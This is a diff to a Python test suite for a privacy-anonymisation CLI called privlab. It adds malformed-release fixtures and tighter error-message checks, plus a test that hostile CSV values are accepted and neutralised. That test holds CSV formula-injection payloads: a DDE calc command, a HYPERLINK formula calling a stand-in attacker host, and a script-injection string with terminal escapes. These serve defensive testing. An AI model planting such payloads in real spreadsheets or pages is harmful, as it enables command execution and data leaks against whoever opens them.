@@ -9,6 +9,11 @@ and asserts, whatever the command:
 * the case's work directory exactly as before: no output, no temporary file.
 
 Signals and concurrent writers need real processes: see ``test_robustness.py``.
+
+The last section drives the other side: **accepted** hostile inputs (spreadsheet formulas,
+markup, ``$``, control characters, a 10,000-character string, a column named ``=1+1``) on
+every kind of CSV privlab writes: accepted, no cell a spreadsheet would evaluate, read back
+by privlab to the values given.
 """
 
 from __future__ import annotations
@@ -28,6 +33,7 @@ import numpy as np
 import pandas as pd
 import pytest
 
+import conftest
 from privlab.cli import main
 
 # -- the in-process runner --------------------------------------------------------------------
@@ -119,6 +125,9 @@ class Corpus:
         w("missing.csv", "a,b,s,c\n" + "x,1,p,u\n?,2,q,v\nz,3,,u\n" * 4)
         w("nocol.csv", "a,b,s\n" + "x,1,p\ny,2,q\n" * 4)
         w("oneclass.csv", "a,b,s,c\n" + "x,1,p,u\ny,2,p,v\n" * 5)
+        w("onerow.csv", "a,b,s,c\nx,21,p,u\n")
+        w("unseen.csv", "a,b,s,c\n" + "x,21,p,u\nw,22,q,v\n" * 3)  # 'w': not in a's domain
+        w("mixed.csv", "a,b,s,c\n" + "x,39,p,u\ny,abc,q,v\n" * 3)  # b: a number, then text
         w("bad.parquet", "this is not parquet")
         w("notjson.json", "{not json")
         w("list.json", "[1, 2, 3]")
@@ -203,6 +212,9 @@ class Corpus:
             "--out",
             self.p("tree.json"),
         )
+        self.ok("dp", "tree", "train", good_csv, "--target", "s", "--epsilon", "inf",
+                "--features", "a,b", "--bounds", "b=0:100", "--max-depth", "2",
+                "--out", self.p("tree-num.json"))  # fmt: skip
         self.ok("attack", "random-worlds", self.p("anat"), "--out", self.p("post.csv"))
         self.ok("marginals", good_csv, "--qi", "a,c", "--sensitive", "s", "--k", "2",
                 "--l", "1", "--republish", "--out", self.p("marg"))  # fmt: skip
@@ -233,9 +245,17 @@ class Corpus:
         return self.p(dst)
 
     def edit_json(
-        self, src: str, dst: str, edit: Callable[[dict], object], file: str = "release.json"
+        self,
+        src: str,
+        dst: str,
+        edit: Callable[[dict], object],
+        file: str = "release.json",
+        *,
+        reseal: bool = True,
     ) -> Path:
-        """Copy a JSON file (or a folder, editing its ``file``) and edit the copy."""
+        """Copy a JSON file (or a folder, editing its ``file``) and edit the copy.  An edited
+        ``release.json`` gets its digests recomputed (``reseal``), as someone who knows the
+        format would, so that the check behind the digest is the one tested."""
         src_path = self.p(src)
         if src_path.is_dir():
             target = self.copy(src, dst) / file
@@ -244,7 +264,10 @@ class Corpus:
             target.write_bytes(src_path.read_bytes())
         d = json.loads(target.read_text())
         edit(d)
-        target.write_text(json.dumps(d))
+        if reseal and target.name == "release.json":
+            conftest.reseal(target.parent, d)
+        else:
+            target.write_text(json.dumps(d))
         return target
 
     def variants(self) -> None:
@@ -278,6 +301,18 @@ class Corpus:
             lambda d: d["matrices"][1].update(matrix=[[math.nan, 0.3], [0.3, 0.7]]),
         )
         self.edit_json("pram", "pram-shape", lambda d: d["matrices"][1].update(matrix=[[1.0]]))
+        # edited metadata (issue 30.4): release.json's own digest; a PRAM matrix replaced by
+        # the identity (every estimate would be the observed counts, sd 0); an Anatomy group
+        # holding one value twice (the release claims l = 2); JSON nested 100,000 deep
+        self.edit_json("anat", "anat-param", lambda d: d["parameters"].update(l=3), reseal=False)
+        self.edit_json("anat", "anat-nodigest", lambda d: d.pop("digest"), reseal=False)
+        self.edit_json("pram", "pram-identity", _identity_matrices)
+        self.copy("anat", "anat-claim")
+        _repeat_a_value(self.p("anat-claim"))
+        deep = "[" * 100_000 + "]" * 100_000
+        self.write("deep.json", deep)
+        self.copy("anat", "anat-deep")
+        self.write("anat-deep/release.json", '{"method": "anatomy", "x": ' + deep + "}")
         # custody
         self.copy("anat.c", "anat.c-edited")
         truth = self.p("anat.c-edited/truth.csv")
@@ -343,6 +378,31 @@ class Corpus:
         )
         self.edit_json("tree.json", "tree-classes.json", lambda d: d["model"].update(classes=[]))
         self.edit_json("tree.json", "tree-nomodel.json", lambda d: d.pop("model"))
+        # a continuous feature's bounds with lo > hi (fit refuses them)
+        self.edit_json("tree-num.json", "tree-bounds.json", _swap_bounds)
+
+
+def _identity_matrices(meta: dict) -> None:
+    for m in meta["matrices"]:
+        k = len(m["matrix"])
+        m["matrix"] = np.eye(k).tolist()
+
+
+def _repeat_a_value(release: Path) -> None:
+    """Make an Anatomy group hold one sensitive value twice (its other value dropped), its
+    table and release digests recomputed: the release then breaks its claim l = 2."""
+    st = pd.read_csv(release / "st.csv", dtype=str, keep_default_na=False)
+    g = st["group_id"].iloc[0]
+    rows = st.index[st["group_id"] == g]
+    st.loc[rows[0], "count"] = str(int(st.loc[rows, "count"].astype(int).sum()))
+    st.drop(index=rows[1:]).to_csv(release / "st.csv", index=False)
+    conftest.reseal(release)
+
+
+def _swap_bounds(d: dict) -> None:
+    lo, hi = d["model"]["bounds"]
+    j = d["features"].index("b")
+    lo[j], hi[j] = hi[j], lo[j]
 
 
 def _leaves(node: dict, **update: object) -> None:
@@ -417,6 +477,10 @@ def resolve(c: Corpus, w: Path, args) -> list:
         "ANATC-EDITED": c.p("anat.c-edited"),
         "ANATC-SEED": c.p("anat.c-seed"),
         "WIDE": c.p("wide.csv"),
+        "ONEROW": c.p("onerow.csv"),
+        "UNSEEN": c.p("unseen.csv"),
+        "MIXED": c.p("mixed.csv"),
+        "DEEP": c.p("deep.json"),
         "MARG": c.p("marg"),
         "AB": c.p("ab"),
         "ABC": c.p("ab.c"),
@@ -610,7 +674,7 @@ for cmd, template in INPUT_COMMANDS.items():
             lambda c, w, t=template: [
                 w / "f" / "out" if a == "OUT" else a for a in _fill(t, c.p("good.csv"))
             ],
-            ("f",),
+            ("f is a file",),
             setup=lambda c, w: (w / "f").write_text("a file"),
         )
     )
@@ -635,16 +699,16 @@ cases(
     "anatomize",
     anat,
     {
-        "l1": (("--l", "1"), "l"),
-        "l0": (("--l", "0"), "l"),
-        "lneg": (("--l", "-3"), "l"),
-        "lbig": (("--l", "9"), "9"),
+        "l1": (("--l", "1"), "l must", "got 1"),
+        "l0": (("--l", "0"), "l must", "got 0"),
+        "lneg": (("--l", "-3"), "l must", "got -3"),
+        "lbig": (("--l", "9"), "l = 9"),
         "ltext": (("--l", "abc"), "--l"),
         "seed-neg": (("--l", "2", "--seed", "-1"), "--seed"),
         "seed-text": (("--l", "2", "--seed", "x"), "--seed"),
         "seed-no-custody": (("--l", "2", "--seed", "4"), "--custody"),
-        "keep-unknown": (("--l", "2", "--keep", "zz"), "zz"),
-        "keep-qi": (("--l", "2", "--keep", "a"), "a"),
+        "keep-unknown": (("--l", "2", "--keep", "zz"), "'zz'"),
+        "keep-qi": (("--l", "2", "--keep", "a"), "'a'"),
         "custody-is-out": (("--l", "2", "--custody", "OUT"), "custody"),
         "replay-missing": (("--l", "2", "--replay", "NOWHERE"), "NOWHERE"),
         "replay-other-method": (("--l", "2", "--replay", "PRAMC"), "pram"),
@@ -657,9 +721,9 @@ cases(
         "domains-notjson": (("--l", "2", "--domains", "NOTJSON"), "JSON"),
         "domains-list": (("--l", "2", "--domains", "LISTJSON"), "object"),
         "domains-string": (("--l", "2", "--domains", "DOMBAD"), "object"),
-        "domains-short": (("--l", "2", "--domains", "DOMSHORT"), "'a'", "z"),
+        "domains-short": (("--l", "2", "--domains", "DOMSHORT"), "'a'", "'z'"),
         "domain-malformed": (("--l", "2", "--domain", "a:x|y"), "COLUMN=v1"),
-        "domain-short": (("--l", "2", "--domain", "a=x|y"), "'a'", "z"),
+        "domain-short": (("--l", "2", "--domain", "a=x|y"), "'a'", "'z'"),
         "unknown-option": (("--l", "2", "--colour", "red"), "--colour"),
     },
 )
@@ -696,15 +760,15 @@ cases(
     "generalize",
     gen,
     {
-        "k0": (("--k", "0"), "k"),
-        "kneg": (("--k", "-2"), "k"),
+        "k0": (("--k", "0"), "k must", "got 0"),
+        "kneg": (("--k", "-2"), "k must", "got -2"),
         "kbig": (("--k", "1000"), "1000"),
-        "l-half": (("--l", "0.5"), "l"),
+        "l-half": (("--l", "0.5"), "l must", "got 0.5"),
         "l-variant": (("--l", "2", "--l-variant", "fancy"), "fancy"),
-        "c-neg": (("--l", "2", "--l-variant", "recursive", "--c", "-1"), "c"),
-        "t-big": (("--t", "1.5"), "t"),
-        "t-neg": (("--t", "-0.1"), "t"),
-        "t-nan": (("--t", "nan"), "t"),
+        "c-neg": (("--l", "2", "--l-variant", "recursive", "--c", "-1"), "c = -1"),
+        "t-big": (("--t", "1.5"), "t must", "got 1.5"),
+        "t-neg": (("--t", "-0.1"), "t must", "got -0.1"),
+        "t-nan": (("--t", "nan"), "t must", "got nan"),
         "t-distance": (("--t", "0.2", "--t-distance", "manhattan"), "manhattan"),
         "delta-neg": (("--delta", "-1"), "delta"),
         "suppression-2": (("--suppression", "2"), "suppression"),
@@ -713,8 +777,8 @@ cases(
         "objective": (("--objective", "beauty"), "beauty"),
         "hier-missing": (("--hierarchies", "NOWHERE"), "nowhere"),
         "hier-empty": (("--hierarchies", "EMPTYDIR", "--qi", "a,b"), "hierarch"),
-        "qi-unknown": (("--qi", "a,zz"), "zz"),
-        "qi-twice": (("--qi", "a,a"), "twice", "a"),
+        "qi-unknown": (("--qi", "a,zz"), "'zz'"),
+        "qi-twice": (("--qi", "a,a"), "twice: a"),
         "sensitive-is-qi": (("--sensitive", "a"), "'a'"),
     },
 )
@@ -728,18 +792,18 @@ cases(
     "pram",
     pramc,
     {
-        "p-big": (("--p", "1.5"), "p"),
-        "p-neg": (("--p", "-0.1"), "p"),
-        "p-nan": (("--p", "nan"), "p"),
+        "p-big": (("--p", "1.5"), "p = 1.5"),
+        "p-neg": (("--p", "-0.1"), "p = -0.1"),
+        "p-nan": (("--p", "nan"), "p = nan"),
         "p-text": (("--p", "high"), "--p"),
         "scheme": (("--p", "0.3", "--scheme", "shuffle"), "shuffle"),
         "binary-3values": (("--p", "0.3", "--scheme", "binary"), "binary"),
-        "p2-big": (("--p", "0.3", "--p2", "3", "--scheme", "ternary-symmetric"), "p2"),
+        "p2-big": (("--p", "0.3", "--p2", "3", "--scheme", "ternary-symmetric"), "p2 = 3"),
         "group-malformed": (("--p", "0.3", "--group", "a:x|y"), "COLUMN=v1"),
         "group-unknown-value": (("--p", "0.3", "--group", "a=x|nope"), "nope"),
         "group-overlap": (("--p", "0.3", "--group", "a=x|y", "--group", "a=y|z"), "'y'"),
         "columns-empty": (("--p", "0.3", "--columns", ","), "column"),
-        "columns-unknown": (("--p", "0.3", "--columns", "a,zz"), "zz"),
+        "columns-unknown": (("--p", "0.3", "--columns", "a,zz"), "'zz'"),
         "keep-randomized": (("--p", "0.3", "--keep", "a"), "'a'"),
     },
 )
@@ -753,12 +817,12 @@ cases(
     "pram-items",
     itemsc,
     {
-        "p-big": (("--p", "1.5"), "p"),
+        "p-big": (("--p", "1.5"), "p = 1.5"),
         "group-unknown-item": (("--p", "0.3", "--group", "a=x|a=nope"), "a=nope"),
         "group-overlap": (("--p", "0.3", "--group", "a=x|a=y", "--group", "a=y"), "a=y"),
         "group-empty-item": (("--p", "0.3", "--group", "a=x||a=y"), "--group"),
         "binary-not-items": (("--p", "0.3", "--binary"), "'a'"),
-        "columns-unknown": (("--p", "0.3", "--columns", "a,zz"), "zz"),
+        "columns-unknown": (("--p", "0.3", "--columns", "a,zz"), "'zz'"),
     },
 )
 
@@ -773,7 +837,7 @@ cases(
     {
         "not-release": (("emptydir",), "release"),
         "not-items": (("pram",), "not an item"),
-        "support-zero": (("pram", "--min-support", "0"), "support", "0"),
+        "support-zero": (("pram", "--min-support", "0"), "support", "got 0"),
         "support-big": (("pram", "--min-support", "1.5"), "1.5"),
         "max-len-zero": (("pram", "--max-len", "0"), "--max-len"),
         "unknown-item": (("pram", "--items", "zz=1"), "zz=1"),
@@ -795,7 +859,7 @@ cases(
     {
         "not-release": (("emptydir", "--columns", "a"), "release"),
         "anatomy": (("anat", "--columns", "a"), "anatomy"),
-        "unknown-column": (("pram", "--columns", "zz"), "zz"),
+        "unknown-column": (("pram", "--columns", "zz"), "'zz'"),
         "method": (("pram", "--columns", "a", "--method", "guess"), "guess"),
         "level-big": (("pram", "--columns", "a", "--level", "1.5"), "level"),
         "level-zero": (("pram", "--columns", "a", "--level", "0"), "level"),
@@ -803,6 +867,7 @@ cases(
         "not-stochastic": (("pram-notstoch", "--columns", "a"), "stochastic"),
         "nan-matrix": (("pram-nanmat", "--columns", "c"), "finite"),
         "matrix-shape": (("pram-shape", "--columns", "c"), "matrix of c", "1x1"),
+        "identity-matrix": (("pram-identity", "--columns", "a"), "matrix of a", "m-category"),
     },
 )
 CASES.append(
@@ -838,7 +903,13 @@ RELEASE_DAMAGE = {
     "layout": ("anat-layout", "layout"),
     "rows": ("anat-rows", "rows"),
     "domain": ("anat-domain", "domain"),
+    "digest": ("anat-param", "modified", "digest"),
+    "no-digest": ("anat-nodigest", "no digest"),
+    "deep": ("anat-deep", "100,001 deep"),
 }
+CASES.append(  # a release whose group holds one value twice: it breaks its claim l = 2
+    Case("check-claim", lambda c, w: ["check", c.p("anat-claim")], ("claims l = 2", "share 1"))
+)
 for name, (rel, *needles) in RELEASE_DAMAGE.items():
     CASES.append(Case(f"check-{name}", lambda c, w, r=rel: ["check", c.p(r)], tuple(needles)))
     CASES.append(
@@ -975,7 +1046,7 @@ cases(
             "'x'",
         ),
         "undeclared": (("--columns", "a", "--epsilon", "1"), "--domain"),
-        "unknown-column": (("--columns", "zz", "--epsilon", "1", "--domain-from-data"), "zz"),
+        "unknown-column": (("--columns", "zz", "--epsilon", "1", "--domain-from-data"), "'zz'"),
         "no-columns": (("--columns", " , ", "--epsilon", "1", "--domain-from-data"), "column"),
         "domain-short": (("--columns", "a", "--epsilon", "1", "--domain", "a=x|y"), "'a'"),
         "seed-no-custody": (
@@ -1018,11 +1089,11 @@ cases(
     "nb-train",
     nbt,
     {
-        "target-unknown": (("--target", "zz", "--epsilon", "1"), "zz"),
+        "target-unknown": (("--target", "zz", "--epsilon", "1"), "'zz'"),
         "target-feature": (("--target", "s", "--features", "a,s", "--epsilon", "1"), "'s'"),
         "eps-0": (("--target", "s", "--epsilon", "0"), "epsilon"),
         "eps-tiny": (("--target", "s", "--epsilon", "1e-320"), "epsilon"),
-        "features-unknown": (("--target", "s", "--features", "zz", "--epsilon", "1"), "zz"),
+        "features-unknown": (("--target", "s", "--features", "zz", "--epsilon", "1"), "'zz'"),
         "test-missing": (("--target", "s", "--epsilon", "1", "--test", "NOWHERE"), "nowhere"),
         "test-no-target": (
             ("--target", "c", "--features", "a", "--epsilon", "1", "--test", "NOCOL"),
@@ -1034,6 +1105,9 @@ cases(
         "seed-no-custody": (("--target", "s", "--epsilon", "1", "--seed", "2"), "--custody"),
         "replay-other-method": (("--target", "s", "--epsilon", "1", "--replay", "ANATC"),
                                 "anatomy"),
+        # the accuracy fails: no model is written (issue 30.2)
+        "test-mixed": (("--target", "s", "--features", "a,b", "--epsilon", "1", "--test",
+                        "MIXED"), "mixed.csv", "value 'abc'"),
     },
 )  # fmt: skip
 CASES.append(
@@ -1065,11 +1139,33 @@ cases(
             ("--epsilon", "1", "--criterion", "info_gain", "--n-records", "3"),
             "n_records",
         ),
-        "features-unknown": (("--epsilon", "1", "--features", "zz"), "zz"),
-        "target-unknown": (("--epsilon", "1", "--target", "zz"), "zz"),
+        "features-unknown": (("--epsilon", "1", "--features", "zz"), "'zz'"),
+        "target-unknown": (("--epsilon", "1", "--target", "zz"), "'zz'"),
         "seed-no-custody": (("--epsilon", "1", "--seed", "2"), "--custody"),
         "replay-other-method": (("--epsilon", "1", "--replay", "PRAMC"), "pram"),
+        # the accuracy fails: no model is written (issue 30.2)
+        "test-unseen": (("--epsilon", "1", "--features", "a,c", "--test", "UNSEEN"),
+                        "unseen.csv", "'w'"),
+        "test-mixed": (("--epsilon", "1", "--features", "a,b", "--bounds", "b=0:100",
+                        "--test", "MIXED"), "mixed.csv", "'b'"),
     },
+)  # fmt: skip
+
+for cmd in ("nb", "tree"):  # --holdout 0.9 of one row leaves none to train on
+    CASES.append(
+        Case(
+            f"{cmd}-train-holdout-all",
+            lambda c, w, k=cmd: ["dp", k, "train", "ONEROW", "--target", "s", "--epsilon", "1",
+                                 "--domain", "s=p|q", "--holdout", "0.9", "--out", w / "m.json"],
+            ("--holdout 0.9", "no row to train on"),
+        )
+    )  # fmt: skip
+CASES.append(
+    Case(
+        "anatomize-domains-deep",
+        lambda c, w: [*anat(c, w, "--l", "2"), "--domains", "DEEP"],
+        ("deep.json", "100,000 deep"),
+    )
 )
 
 NB_MODELS = {
@@ -1087,6 +1183,7 @@ NB_MODELS = {
     "feat": ("nb-feat.json", "feature_names"),
     "eps-neg": ("nb-inf.json", "epsilon"),
     "tree": ("tree.json", "tree.json"),
+    "deep": ("deep.json", "100,000 deep"),
 }
 for name, (model, *needles) in NB_MODELS.items():
     CASES.append(
@@ -1117,6 +1214,8 @@ TREE_MODELS = {
     "classes": ("tree-classes.json", "classes"),
     "nomodel": ("tree-nomodel.json", "model"),
     "nb": ("nb.json", "nb.json"),
+    "bounds": ("tree-bounds.json", "bounds", "lo <= hi"),
+    "deep": ("deep.json", "100,000 deep"),
 }
 for name, (model, *needles) in TREE_MODELS.items():
     CASES.append(
@@ -1184,8 +1283,8 @@ cases(
     "marginals",
     lambda c, w, *extra: resolve(c, w, ["marginals", "GOOD", "--out", "OUT", *extra]),
     {
-        "qi-unknown": (("--qi", "a,zz", "--sensitive", "s"), "zz"),
-        "sensitive-unknown": (("--qi", "a,c", "--sensitive", "zz"), "zz"),
+        "qi-unknown": (("--qi", "a,zz", "--sensitive", "s"), "'zz'"),
+        "sensitive-unknown": (("--qi", "a,c", "--sensitive", "zz"), "'zz'"),
         "k0": (("--qi", "a,c", "--sensitive", "s", "--k", "0"), "--k >= 1", "got 0"),
         "width1": (("--qi", "a,c", "--sensitive", "s", "--width", "1"), "--width"),
         "l-variant": (("--qi", "a,c", "--sensitive", "s", "--l-variant", "fancy"), "fancy"),
@@ -1222,8 +1321,8 @@ cases(
             "gamma = 0.3 must exceed d = 0.5",
         ),
         "alpha-zero": (("--columns", "a,c", "--alpha", "0", "--beta", "0.1"), "alpha = 0"),
-        "columns-unknown": (("--columns", "a,zz", "--alpha", "0.5", "--beta", "0.1"), "zz"),
-        "estimate-unknown-column": (("estimate",), "zz"),
+        "columns-unknown": (("--columns", "a,zz", "--alpha", "0.5", "--beta", "0.1"), "'zz'"),
+        "estimate-unknown-column": (("estimate",), "'zz'"),
     },
 )
 for cs in CASES:
@@ -1555,3 +1654,228 @@ def test_any_table_gives_a_result_or_one_line(tmp_path_factory, header, rows, en
     else:
         assert [p.name for p in out.iterdir()] == ["o"]
     assert src.read_bytes() == before
+
+
+# -- accepted inputs: what a hostile value does to whoever opens the output (issue 30.9) ----------
+#: Values a data subject may type into a free-text field: spreadsheet formulas (OWASP's
+#: leading =, +, -, @, tab, CR), markup, ``$`` (math in a plot), control characters (a
+#: terminal escape, a line break inside a cell) and a 10,000-character string.
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x","click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=2+2",
+    "<script>alert(1)</script>",
+    "[bold red]x[/]",
+    "a$^$b",
+    "US$ 50k-US$ 60k",
+    "bell\x07ring",
+    "esc\x1b[31mred",
+    "line\nbreak",
+    "'plain",
+    "L" * 10_000,
+]
+#: The hostile column's name is a formula too.
+QCOL = "=1+1"
+
+
+def _hostile_frame() -> pd.DataFrame:
+    rng = np.random.default_rng(7)
+    n = 8 * len(HOSTILE)
+    return pd.DataFrame(
+        {
+            QCOL: rng.permutation(np.repeat(np.array(HOSTILE, dtype=object), 8)),
+            "b": rng.integers(-3, 4, n),  # negative numbers: numbers, never escaped
+            "s": rng.permutation(np.repeat(np.array(HOSTILE, dtype=object), 8)),
+            "c": rng.choice(["u", "-v"], n),
+        }
+    )
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory) -> tuple[Path, pd.DataFrame]:
+    import csv
+
+    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
+    df = _hostile_frame()
+    df.to_csv(path, index=False, quoting=csv.QUOTE_NONNUMERIC)  # a CR inside a cell: quoted
+    return path, df
+
+
+def _formula_cells(root: Path) -> list[tuple[str, str]]:
+    """Every header or cell of every CSV under ``root`` that a spreadsheet would evaluate."""
+    import csv
+
+    from privlab._csv import is_formula
+
+    found = []
+    for f in sorted(root.rglob("*.csv")):
+        with open(f, newline="", encoding="utf-8") as fh:
+            found += [(f.name, c[:40]) for row in csv.reader(fh) for c in row if is_formula(c)]
+    return found
+
+
+def _read(path: Path):
+    from privlab.data.table import read_table
+
+    return read_table(path)
+
+
+def _same(values, expected) -> None:
+    assert sorted(map(str, values)) == sorted(map(str, expected))
+
+
+def _anat_args(src, w) -> list:
+    return ["anatomize", src, "--qi", f"{QCOL},b", "--sensitive", "s", "--l", "2",
+            "--custody", w / "c", "--out", w / "out"]  # fmt: skip
+
+
+def _accepted_anatomy(src, df, w) -> None:
+    from privlab.publish import load_release
+
+    rel = load_release(w / "out", custody=w / "c")
+    _same(rel.qit.decode(QCOL), df[QCOL])
+    _same(rel.qit.decode("b"), df["b"])
+    # st.csv: the sensitive values with their counts, read back to the input's
+    _same(np.repeat(np.asarray(rel.sensitive.domain, dtype=object)[rel.st_value], rel.st_count),
+          df["s"])  # fmt: skip
+    _same(rel.custody.truth.decode("s"), df["s"])
+
+
+def _accepted_generalize(src, df, w) -> None:
+    from privlab.publish import load_release
+
+    rel = load_release(w / "out", custody=w / "c")
+    assert rel.n_rows == len(df)
+    _same(rel.table.decode("s"), df["s"])  # table.csv's ungeneralized column
+    _same(rel.custody.truth.decode(QCOL), df[QCOL])
+
+
+def _accepted_pram(src, df, w) -> None:
+    from privlab.publish import load_release
+
+    rel = load_release(w / "out", custody=w / "c")
+    _same(rel.table.decode("s"), df["s"])  # kept unchanged
+    _same(rel.custody.truth.decode(QCOL), df[QCOL])
+    assert set(rel.table.schema[QCOL].domain) == set(HOSTILE)
+
+
+def _published_values(w: Path) -> set:
+    from privlab.publish import load_release
+
+    load_release(w / "out")  # the tables decode through release.json's (raw) domains
+    meta = json.loads((w / "out" / "release.json").read_text())
+    return {v for a in meta["schema"]["attributes"] for v in a["domain"]}
+
+
+def _accepted_marginals(src, df, w) -> None:
+    assert set(df["s"]) <= _published_values(w)
+
+
+def _accepted_alphabeta(src, df, w) -> None:
+    assert set(df["s"]) & _published_values(w)
+
+
+def _accepted_histogram(src, df, w) -> None:
+    assert set(_read(w / "h.csv").decode(QCOL)) == set(HOSTILE)
+
+
+def _accepted_predictions(src, df, w) -> None:
+    back = _read(w / "pred.csv")
+    assert back.decode(QCOL).tolist() == df[QCOL].tolist()
+    assert set(back.names) >= {QCOL, "c"}
+
+
+def _accepted_tree_predictions(src, df, w) -> None:
+    back = _read(w / "pred.csv")
+    for col in (QCOL, "b", "s", "c"):
+        assert back.decode(col).tolist() == df[col].tolist(), col
+    assert back.schema["b"].numeric
+
+
+def _accepted_posterior(src, df, w) -> None:
+    from privlab.attacks.posterior import Posterior
+
+    assert set(Posterior.load(w / "post.csv").values) == set(HOSTILE)
+
+
+def _accepted_estimate(src, df, w) -> None:
+    assert set(_read(w / "e.csv").decode(QCOL)) == set(HOSTILE)
+
+
+def _accepted_report(src, df, w) -> None:
+    assert set(_read(w / "c" / "person-risk.csv").decode("em_top_value")) <= set(HOSTILE)
+
+
+def _accepted_export(src, df, w) -> None:
+    from privlab.data import load_dataset
+
+    ref = load_dataset("lenses").to_pandas()
+    back = _read(w / "x.csv").to_pandas()
+    pd.testing.assert_frame_equal(back, ref, check_dtype=False)
+
+
+#: id -> (the commands, run in order in the case's work directory; what reads the outputs back)
+ACCEPTED = {
+    "anatomize": ([_anat_args], _accepted_anatomy),
+    "generalize": ([lambda s, w: ["generalize", s, "--qi", f"{QCOL},b", "--sensitive", "s",
+                                  "--k", "2", "--custody", w / "c", "--out", w / "out"]],
+                   _accepted_generalize),
+    "pram": ([lambda s, w: ["pram", s, "--columns", QCOL, "--keep", "s,c", "--p", "0.3",
+                            "--custody", w / "c", "--out", w / "out"]], _accepted_pram),
+    "marginals": ([lambda s, w: ["marginals", s, "--qi", f"{QCOL},c", "--sensitive", "s",
+                                 "--k", "2", "--l", "1", "--out", w / "out"]],
+                  _accepted_marginals),
+    "alphabeta": ([lambda s, w: ["alphabeta", s, "--columns", f"{QCOL},c,s", "--alpha", "0.5",
+                                 "--beta", "0.1", "--custody", w / "c", "--out", w / "out"]],
+                  _accepted_alphabeta),
+    "histogram": ([lambda s, w: ["dp", "histogram", s, "--columns", QCOL, "--epsilon", "1",
+                                 "--domain-from-data", "--out", w / "h.csv"]],
+                  _accepted_histogram),
+    "nb-predict": ([lambda s, w: ["dp", "nb", "train", s, "--target", "s", "--features",
+                                  f"{QCOL},c", "--epsilon", "1", "--out", w / "m.json"],
+                    lambda s, w: ["dp", "nb", "predict", w / "m.json", s, "--out",
+                                  w / "pred.csv"]], _accepted_predictions),
+    "tree-predict": ([lambda s, w: ["dp", "tree", "train", s, "--target", "s", "--features",
+                                    f"{QCOL},c", "--epsilon", "inf", "--max-depth", "2",
+                                    "--out", w / "m.json"],
+                      lambda s, w: ["dp", "tree", "predict", w / "m.json", s, "--out",
+                                    w / "pred.csv"]], _accepted_tree_predictions),
+    "posterior": ([_anat_args, lambda s, w: ["attack", "random-worlds", w / "out", "--out",
+                                             w / "post.csv"]], _accepted_posterior),
+    "pram-estimate": ([lambda s, w: ["pram", s, "--columns", QCOL, "--p", "0.3", "--out",
+                                     w / "out"],
+                       lambda s, w: ["pram", "estimate", w / "out", "--columns", QCOL, "--out",
+                                     w / "e.csv"]], _accepted_estimate),
+    "report": ([_anat_args, lambda s, w: ["report", w / "out", "--custody", w / "c",
+                                          "--attacks", "em", "--out", w / "r.html"]],
+               _accepted_report),
+    "export": ([lambda s, w: ["datasets", "export", "lenses", "--out", w / "x.csv"]],
+               _accepted_export),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", list(ACCEPTED))
+def test_a_hostile_value_is_accepted_safe_and_read_back(kind, hostile, tmp_path: Path) -> None:
+    """The hostile input is accepted (exit 0, no traceback, the input unmodified); no CSV the
+    command writes holds a cell a spreadsheet would evaluate (headers included), the CLI
+    says when it neutralized some, and privlab reads its outputs back to the values given."""
+    src, df = hostile
+    before = src.read_bytes()
+    w = tmp_path / "work"
+    w.mkdir()
+    commands, read_back = ACCEPTED[kind]
+    said = ""
+    for build in commands:
+        r = run_cli(*build(src, w))
+        assert r.code == 0, (kind, r.err[-2000:])
+        assert "Traceback" not in r.err + r.out
+        said += r.err
+    assert src.read_bytes() == before, "the input was modified"
+    assert _formula_cells(w) == []
+    # every kind but the bundled export publishes a hostile value, and says it neutralized it
+    assert ("were written with a leading '" in said) == (kind != "export"), said[-2000:]
+    read_back(src, df, w)
